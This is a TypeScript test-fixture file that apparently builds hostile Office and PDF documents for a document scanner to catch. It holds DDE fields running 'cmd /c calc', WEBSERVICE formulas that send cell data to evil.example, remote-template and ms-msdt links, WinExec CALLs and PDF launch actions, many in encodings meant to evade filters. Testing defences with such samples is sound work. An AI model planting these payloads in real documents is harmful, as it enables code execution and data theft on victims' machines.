import { makeOffice } from './office.ts'
import { makePdf, type PdfPart, streamPart } from './pdf.ts'

/** What fetches, runs or carries something, in as many writings as there are. */
export type HostileDocument = readonly [what: string, bytes: Buffer]

const latin1 = (text: string) => Buffer.from(text, 'latin1')

/** The same XML as Office takes it: in either byte order, with its letters as numbers, with other quotes. */
const writings = {
  plainly: (xml: string) => Buffer.from(xml),
  'in UTF-16': (xml: string) => Buffer.from(`\ufeff${xml}`, 'utf16le'),
  'in UTF-16, the other order': (xml: string) => Buffer.from(`\ufeff${xml}`, 'utf16le').swap16(),
  'with single quotes and spaces': (xml: string) =>
    Buffer.from(xml.replaceAll('="', " \n=\t'").replaceAll('"', "'")),
  'in letters as numbers': (xml: string) => Buffer.from(xml.replaceAll('External', '&#69;xterna&#x6C;')),
} as const

const relation = (type: string, target: string, mode = 'External') =>
  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Target="${target}" TargetMode="${mode}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}"/></Relationships>`

function relations(): HostileDocument[] {
  const targets = [
    ['attachedTemplate', 'https://evil.example/t.dotm'],
    ['oleObject', 'file:///\\\\evil.example\\share\\x'],
    ['frame', 'https://evil.example/f'],
    ['subDocument', 'https://evil.example/s.docx'],
    ['externalLinkPath', 'https://evil.example/b.xlsx'],
    ['image', 'https://evil.example/pixel.png'],
    ['hyperlink', 'file://evil.example/share/x.lnk'],
    ['hyperlink', 'ms-msdt:/id PCWDiagnostic'],
  ] as const
  return targets.flatMap(([type, target]) =>
    Object.entries(writings).map(
      ([how, write]) =>
        [
          `a relation ${type} to ${target.slice(0, 12)} ${how}`,
          makeOffice('docx', [
            { name: 'word/_rels/settings.xml.rels', content: write(relation(type, target)) },
          ]),
        ] as const,
    ),
  )
}

const field = (runs: readonly string[], element = 'w:instrText') =>
  `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p>${runs
    .map((run) => `<w:r><${element}>${run}</${element}></w:r>`)
    .join('')}</w:p></w:body></w:document>`
const step = (kind: string) => `<w:r><w:fldChar w:fldCharType="${kind}"/></w:r>`
const fieldOf = (runs: readonly string[], end = step('end')) =>
  `<w:p xmlns:w="u">${step('begin')}${runs.map((run) => `<w:r><w:instrText>${run}</w:instrText></w:r>`).join('')}${end}</w:p>`
const nested = `<w:p xmlns:w="u">${step('begin')}${step('begin')}<w:r><w:instrText> REF name </w:instrText></w:r>${step('separate')}<w:r><w:t>DD</w:t></w:r>${step('end')}<w:r><w:instrText> PAGE </w:instrText></w:r>${step('end')}</w:p>`
const word = (what: string, xml: string | Buffer): HostileDocument => [
  `in Word, ${what}`,
  makeOffice('docx', [{ name: 'word/header1.xml', content: xml }]),
]
const excel = (what: string, xml: string | Buffer, name = 'xl/worksheets/sheet1.xml'): HostileDocument => [
  `in Excel, ${what}`,
  makeOffice('xlsx', [{ name, content: xml }]),
]
const slides = (what: string, xml: string): HostileDocument => [
  `in PowerPoint, ${what}`,
  makeOffice('pptx', [{ name: 'ppt/slides/slide1.xml', content: xml }]),
]
const sheet = (inner: string) =>
  `<x:worksheet xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main">${inner}</x:worksheet>`
const cell = (formula: string) => sheet(`<x:sheetData><x:c><x:f>${formula}</x:f></x:c></x:sheetData>`)

/** Where a workbook has formulas besides its cells, each with a place for one. */
const formulaPlaces: readonly (readonly [where: string, part: string, write: (formula: string) => string])[] =
  [
    [
      'a defined name',
      'xl/workbook2.xml',
      (formula) =>
        `<x:workbook xmlns:x="u"><x:definedNames><x:definedName name="rate">${formula}</x:definedName></x:definedNames></x:workbook>`,
    ],
    [
      'a condition of formatting',
      'xl/worksheets/sheet1.xml',
      (formula) =>
        sheet(
          `<x:conditionalFormatting sqref="A1"><x:cfRule type="expression"><x:formula>${formula}</x:formula></x:cfRule></x:conditionalFormatting>`,
        ),
    ],
    [
      'a bound of a scale of colours',
      'xl/worksheets/sheet1.xml',
      (formula) =>
        sheet(
          `<x:cfRule type="colorScale"><x:colorScale><x:cfvo type="formula" val="${formula.replaceAll('"', '&quot;')}"/></x:colorScale></x:cfRule>`,
        ),
    ],
    [
      'the first bound of a validation',
      'xl/worksheets/sheet1.xml',
      (formula) =>
        sheet(`<x:dataValidation type="list"><x:formula1>${formula}</x:formula1></x:dataValidation>`),
    ],
    [
      'the second bound of a validation',
      'xl/worksheets/sheet1.xml',
      (formula) =>
        sheet(
          `<x:dataValidation><x:formula1>1</x:formula1><x:formula2>${formula}</x:formula2></x:dataValidation>`,
        ),
    ],
    [
      'a validation of 2010',
      'xl/worksheets/sheet1.xml',
      (formula) =>
        sheet(
          `<x14:dataValidation xmlns:x14="u14" xmlns:xm="um"><x14:formula1><xm:f>A1</xm:f></x14:formula1><x14:formula2><xm:f>${formula}</xm:f></x14:formula2></x14:dataValidation>`,
        ),
    ],
    [
      'a column of a table',
      'xl/tables/table1.xml',
      (formula) =>
        `<table xmlns="u"><tableColumn><calculatedColumnFormula>${formula}</calculatedColumnFormula></tableColumn></table>`,
    ],
    [
      'the totals of a table',
      'xl/tables/table1.xml',
      (formula) =>
        `<table xmlns="u"><tableColumn><totalsRowFormula>${formula}</totalsRowFormula></tableColumn></table>`,
    ],
    [
      'an item that a pivot reckons',
      'xl/pivotCache/pivotCacheDefinition1.xml',
      (formula) =>
        `<pivotCacheDefinition xmlns="u"><calculatedItem formula="${formula.replaceAll('"', '&quot;')}"/></pivotCacheDefinition>`,
    ],
    [
      'a field that a pivot reckons',
      'xl/pivotCache/pivotCacheDefinition1.xml',
      (formula) =>
        `<pivotCacheDefinition xmlns="u"><cacheField y:formula="1" xmlns:y="v" formula="${formula.replaceAll('"', '&quot;')}"/></pivotCacheDefinition>`,
    ],
    [
      'a chart',
      'xl/charts/chart1.xml',
      (formula) => `<c:ser xmlns:c="u"><c:val><c:numRef><c:f>${formula}</c:f></c:numRef></c:val></c:ser>`,
    ],
    [
      'the labels of a chart of 2013',
      'xl/charts/chart1.xml',
      (formula) => `<c15:formulaRef xmlns:c15="u"><c15:sqref>${formula}</c15:sqref></c15:formulaRef>`,
    ],
    [
      'the text of a shape',
      'xl/drawings/drawing1.xml',
      (formula) => `<xdr:sp xmlns:xdr="u" macro="" textlink="${formula.replaceAll('"', '&quot;')}"/>`,
    ],
    [
      'a list to choose from',
      'xl/ctrlProps/ctrlProp1.xml',
      (formula) => `<formControlPr xmlns="u" fmlaRange="${formula.replaceAll('"', '&quot;')}"/>`,
    ],
    [
      'a picture of the older kind',
      'xl/drawings/vmlDrawing1.vml',
      (formula) =>
        `<xml xmlns:x="u"><x:ClientData ObjectType="Pict"><x:FmlaPict>${formula}</x:FmlaPict></x:ClientData></xml>`,
    ],
  ]

/** Workbooks elsewhere, by each way that a formula has to say where. */
const otherBooks = [
  "'C:\\dir\\[b.xlsx]S'!A1",
  "'https://evil.example/[b.xlsx]S'!A1",
  "SUM('https://evil.example/o''brien/[b.xlsx]Jan:Mar'!A1:B9)",
  "'\\\\evil.example\\share\\b.xlsx'!rate",
  "'..\\[b.xlsx]S'!A1",
  `'the "new" one'!A1&amp;'//evil.example/[b.xlsx]S'!A1&amp;"'"`,
  "T[a'#]&amp;'\\\\evil.example\\[b.xlsx]S'!A1",
  '_x0027_\\\\evil.example\\[b.xlsx]S_x0027_!A1',
  "'file:///c:/b.ods'#$Sheet1.A1",
  '[file:///c:/b.xlsx]Sheet1!A1',
  '\\\\evil.example\\share\\[b.xlsx]Sheet1!A1',
  `INDIRECT("'file:///c:/b.ods'#$Sheet1.A1")`,
  `INDIRECT("'https:"&amp;"//evil.example/["&amp;LOWER(A1)&amp;"]S'!A1",TRUE)`,
  `SUM(A1)+INDIRECT("'"&amp;LOWER("FILE")&amp;":///c:/b.ods'#$Sheet1.A1")`,
  `indirect ( IF(A1="","A1","'\\\\evil.example\\share\\[b.xlsx]S'!A1"`,
]

function formulas(): HostileDocument[] {
  const reaching = [
    ['WEBSERVICE', '_xlfn.WEBSERVICE("https://evil.example/"&amp;A1)'],
    ['a command', "cmd|'/c calc'!A1"],
    ['another workbook', "'\\\\evil.example\\share\\[b.xlsx]Sheet1'!A1"],
  ] as const
  const fetching = cell(reaching[0][1])
  return [
    ...formulaPlaces.flatMap(([where, part, write]) =>
      reaching.map(([what, formula]) => excel(`${what} in ${where}`, write(formula), part)),
    ),
    // The relations of a workbook may give any part any name.
    ...formulaPlaces.map(([where, , write]) =>
      excel(`RTD in ${where}, the part renamed`, write('RTD("evil.server",,"x")'), 'xl/other/a.xml'),
    ),
    excel('a sheet named as a picture', fetching, 'xl/media/image1.png'),
    excel('a sheet named as a picture, after blank lines', `\ufeff\n\n${fetching}`, 'xl/media/image1.png'),
    excel('a sheet named as a font, in UTF-16', writings['in UTF-16'](fetching), 'xl/fonts/a.odttf'),
    excel(
      'a sheet named as a film, in an encoding of its own',
      latin1(`<?xml version="1.0" encoding="windows-1252"?><!-- \xe9 -->${fetching}`),
      'xl/media/a.mp4',
    ),
    excel('a sheet named as settings of a printer', fetching, 'xl/printerSettings/sheet1.bin'),
    excel(
      'a sheet that passes for settings of a Mac’s printer',
      `<!DOCTYPE plist>${fetching}<!--<plist-->`,
      'xl/printerSettings/sheet1.bin',
    ),
    excel(
      'a sheet that names such settings in its DOCTYPE',
      `<!DOCTYPE plist SYSTEM "> <plist ">${fetching}`,
      'xl/printerSettings/sheet1.bin',
    ),
    excel('a formula with an element in it', cell('WEB<x:b/>SERVICE("https://evil.example")')),
    excel(
      'a formula between sheets with marks in their names',
      cell(`'a"b'!A1&amp;WEBSERVICE(A2)&amp;'c"d'!A1`),
    ),
    excel(
      'a formula between columns with marks in their names',
      cell(`T[a'#"]&amp;WEBSERVICE(A2)&amp;T[b'#"]`),
    ),
    excel(
      'a formula behind a mark in a column’s name',
      cell(`T[a'#]&amp;"x'"&amp;WEBSERVICE("https://evil.example")`),
    ),
    ...otherBooks.map((formula) => excel(`another workbook, ${formula}`, cell(formula))),
    excel('WEBSERVICE with a letter as Excel escapes it', cell('_x0057_EBSERVICE("https://evil.example")')),
  ]
}

function office(): HostileDocument[] {
  return [
    word('a DDE field in one run', field([' DDE cmd "/c calc" '])),
    word('a DDEAUTO field over four runs', field([' D', 'DE', 'AU', 'TO cmd "/c calc"'])),
    word('a DDE field in UTF-16', writings['in UTF-16'](field([' DDEAUTO cmd "/c calc"']))),
    word('a DDE field in letters as numbers', field(['&#68;&#68;&#69; cmd "/c calc"'])),
    word('a DDE field in CDATA', field(['<![CDATA[DDEAUTO cmd]]>'])),
    word('a DDE field that was deleted', field([' DDE cmd '], 'w:delInstrText')),
    word('a DDE field that QUOTE spells', field([' QUOTE 68 68 69 65 ', ' cmd '])),
    word('a simple DDE field', '<w:p xmlns:w="u"><w:fldSimple w:instr=" DDEAUTO cmd "/></w:p>'),
    word('a picture that is fetched', field([' INCLUDEPICTURE "https://evil.example/p.png" \\d '])),
    word('a text that is fetched', field([' INCLUDETEXT "https://evil.example/p.docx" '])),
    word('a button with a macro', field([' MACROBUTTON Open press here '])),
    word('a web page put in', '<w:body xmlns:w="u"><w:altChunk/></w:body>'),
    word('a mail merge', '<w:settings xmlns:w="u"><w:mailMerge><w:query/></w:mailMerge></w:settings>'),
    word('a control', '<w:p xmlns:w="u"><w:control w:name="x"/></w:p>'),
    word('an object', '<w:p xmlns:o="u"><o:OLEObject Type="Link" UpdateMode="Always"/></w:p>'),
    word('an object under another prefix', '<w:p xmlns:zz="u"><zz:OLEObject Type="Link"/></w:p>'),
    word('a template', '<w:settings xmlns:w="u"><w:attachedTemplate/></w:settings>'),
    word(
      'a picture of VML from elsewhere',
      '<v:shape xmlns:v="u"><v:imagedata src="https://evil.example/x"/></v:shape>',
    ),
    word('a frame', '<w:frameset xmlns:w="u"><w:frame><w:sourceFileName/></w:frame></w:frameset>'),
    word('XML that ends too early', '<w:p xmlns:w="u"><w:r>'),
    word('XML with two roots', '<a/><b/>'),
    word('XML with a prefix of nobody', '<w:p/>'),
    word('XML in an encoding of its own', '<?xml version="1.0" encoding="utf-7"?><a/>'),
    word('XML in letters that are none', Buffer.from([0x3c, 0x61, 0x3e, 0xff, 0xfe, 0x3c, 0x2f, 0x61, 0x3e])),
    word('a DOCTYPE in UTF-16', writings['in UTF-16']('<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>')),
    word('an entity that nobody has said', '<a>&evil;</a>'),
    excel('a DDE link', '<x:externalLink xmlns:x="u"><x:ddeLink ddeService="cmd"/></x:externalLink>'),
    excel('an OLE link', '<x:externalLink xmlns:x="u"><x:oleLink progId="x"/></x:externalLink>'),
    excel('another book', '<x:externalLink xmlns:x="u"><x:externalBook/></x:externalLink>'),
    // [1] in a formula means the first of these. Without one it means nothing, so that the number itself is not refused.
    excel(
      'a list of other books',
      '<x:workbook xmlns:x="u"><x:externalReferences><x:externalReference/></x:externalReferences></x:workbook>',
    ),
    excel(
      'a relation to another book',
      relation('externalLink', 'externalLinks/externalLink1.xml', 'Internal'),
      'xl/_rels/workbook.xml.rels',
    ),
    excel(
      'a web query',
      '<x:connections xmlns:x="u"><x:connection><x:webPr url="https://evil.example"/></x:connection></x:connections>',
      'xl/connections.xml',
    ),
    excel(
      'a database',
      '<x:connections xmlns:x="u"><x:connection><x:dbPr/></x:connection></x:connections>',
      'xl/connections.xml',
    ),
    excel('a query table', '<x:queryTable xmlns:x="u"/>', 'xl/queryTables/queryTable1.xml'),
    excel('WEBSERVICE', cell('_xlfn.WEBSERVICE("https://evil.example/"&amp;A1)')),
    excel('WEBSERVICE in letters as numbers', cell('&#87;EBSERVICE("https://evil.example")')),
    excel('RTD', cell('RTD("evil.server",,"x")')),
    excel('CALL', cell('CALL("kernel32","WinExec","JCJ","calc",0)')),
    excel('a command', cell("cmd|'/c calc'!A1")),
    excel('a command without quotation marks', cell('cmd|calc!A1')),
    excel('a command between quotation marks', cell("'cmd'|calc!A1")),
    excel('FILES of old macros', cell('FILES("\\\\evil.example\\share\\*")')),
    excel('INITIATE of old macros', cell('INITIATE("cmd","x")')),
    excel(
      'a relation with a target of another namespace first',
      relation('hyperlink', 'file://evil.example/x').replace(
        'Id=',
        'xmlns:x="u" x:Target="https://example.org/" Id=',
      ),
      'xl/worksheets/_rels/sheet1.xml.rels',
    ),
    word(
      'a field with another of its name first',
      '<w:p xmlns:w="u" xmlns:x="v"><w:fldSimple x:instr=" PAGE " w:instr=" DDEAUTO cmd "/></w:p>',
    ),
    excel('a command in CDATA', cell("<![CDATA[cmd|'/c calc'!A1]]>")),
    excel('a command in UTF-16', writings['in UTF-16'](cell("MSEXCEL|'\\..\\cmd.exe'!A1"))),
    excel('a picture that is fetched', cell('_xlfn.IMAGE("https://evil.example/p.png")')),
    excel(
      'a name that is a macro',
      '<x:workbook xmlns:x="u"><x:definedName name="Auto_Open" xlm="1"/></x:workbook>',
    ),
    excel('a task pane', '<wetp:taskpane xmlns:wetp="u"/>', 'xl/webextensions/taskpane.xml'),
    excel('a part that is no part', 'x', 'xl/evil.py'),
    word('a field that prints', fieldOf([' PRINT 27'])),
    word('a field of a name that nobody knows', fieldOf([' EVILFIELD x '])),
    word('a field whose name another field gives', nested),
    word('a field that does not end', fieldOf([' INCLUDETEXT x'], '')),
    word('a link in a field to a program', fieldOf([' HYPERLINK "ms-msdt:/id PCWDiagnostic" '])),
    word('a simple field that inserts', '<w:p xmlns:w="u"><w:fldSimple w:instr=" AUTOTEXTLIST x "/></w:p>'),
    slides('another presentation', '<a:hlinkClick xmlns:a="u" action="ppaction://hlinkpres?slideindex=1"/>'),
    slides('a file', '<a:hlinkClick xmlns:a="u" action="ppaction://hlinkfile"/>'),
    slides('a program that a click runs', '<a:hlinkClick xmlns:a="u" action="ppaction://program?x"/>'),
    slides('a macro that a click runs', "<a:hlinkHover xmlns:a='u' action='ppaction://macro?name=x'/>"),
    slides('an object', '<p:oleObj xmlns:p="u" progId="Package"/>'),
  ]
}

const unseen = 'BT /F1 12 Tf (Dear bank) Tj ET'

/** Objects inside a packed stream of objects, where a look at the file's bytes does not see them. */
function packed(objects: readonly string[]): PdfPart {
  let at = 0
  const head = objects.map((object, index) => {
    const entry = `${20 + index} ${at}`
    at += object.length + 1
    return entry
  })
  const first = `${head.join(' ')} `
  const content = latin1(first + objects.join(' '))
  return streamPart(`/Type /ObjStm /N ${objects.length} /First ${first.length}`, content)
}

function pdfs(): HostileDocument[] {
  const kinds = [
    'Launch',
    'GoToR',
    'GoToE',
    'SubmitForm',
    'ImportData',
    'Rendition',
    'Sound',
    'Movie',
    'Hide',
    'Thread',
    'ResetForm',
    'SetOCGState',
    'Trans',
    'GoTo3DView',
    'RichMediaExecute',
    'JavaScript',
  ]
  const actions = kinds.flatMap((kind): HostileDocument[] => {
    const escaped = `#${kind.charCodeAt(0).toString(16)}${kind.slice(1)}`
    return [
      [
        `an action ${kind} in a stream of objects`,
        makePdf({ parts: [packed([`<< /Type /Action /S /${kind} /F (x) >>`])] }),
      ],
      [
        `an action ${kind} at opening, its name escaped`,
        makePdf({ catalogue: '/OpenAction 5 0 R', parts: [{ dictionary: `<< /S /${escaped} >>` }] }),
      ],
    ]
  })
  const others: [string, Parameters<typeof makePdf>[0]][] = [
    ['an action of events, empty of words', { catalogue: '/AA << /WC << /S /Named >> >>' }],
    ['one in a stream of objects', { parts: [packed(['<< /#41A << /O << /S /URI >> >> >>'])] }],
    [
      'an address that opens by itself',
      { catalogue: '/OpenAction << /S /URI /URI (https://evil.example) >>' },
    ],
    [
      'a second action after an allowed one',
      { catalogue: '/OpenAction << /S /GoTo /Next << /S /Launch >> >>' },
    ],
    ['one in a list of next ones', { catalogue: '/OpenAction << /S /GoTo /Next [<< /S /GoToR >>] >>' }],
    ['a link to a file', { parts: [{ dictionary: '<< /A << /S /URI /URI (file:///etc/passwd) >> >>' }] }],
    [
      'a link that is a script',
      { parts: [{ dictionary: '<< /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>' }] },
    ],
    ['a link in hexadecimal', { parts: [{ dictionary: '<< /A << /S /URI /URI <66696c653a2f2f78> >> >>' }] }],
    [
      'a file somewhere on the web',
      { parts: [packed(['<< /Type /Filespec /FS /URL /F (https://evil.example) >>'])] },
    ],
    ['a stream that lies elsewhere', { parts: [streamPart('/F (https://evil.example/x)', latin1(unseen))] }],
    ['a file in it', { parts: [packed(['<< /Type /Filespec /EF << /F 4 0 R >> >>'])] }],
    ['a file pinned to a page', { parts: [packed(['<< /Type /Annot /Subtype /FileAttachment >>'])] }],
    ['a portfolio', { catalogue: '/Collection << /View /D >>' }],
    ['a form that is a program', { catalogue: '/AcroForm << /XFA 4 0 R >>' }],
    ['a screen', { parts: [packed(['<< /Type /Annot /Subtype /Screen >>'])] }],
    ['a film', { parts: [packed(['<< /Type /Annot /Subtype /Movie >>'])] }],
    ['a body in three dimensions', { parts: [packed(['<< /Type /Annot /Subtype /3D >>'])] }],
    ['scripts by name', { catalogue: '/Names << /Java#53cript << /Names [] >> >>' }],
  ]
  return [
    ...actions,
    ...others.map(([what, options]): HostileDocument => [`a PDF with ${what}`, makePdf(options)]),
  ]
}

export const hostileDocuments: readonly HostileDocument[] = [
  ...relations(),
  ...office(),
  ...formulas(),
  ...pdfs(),
]
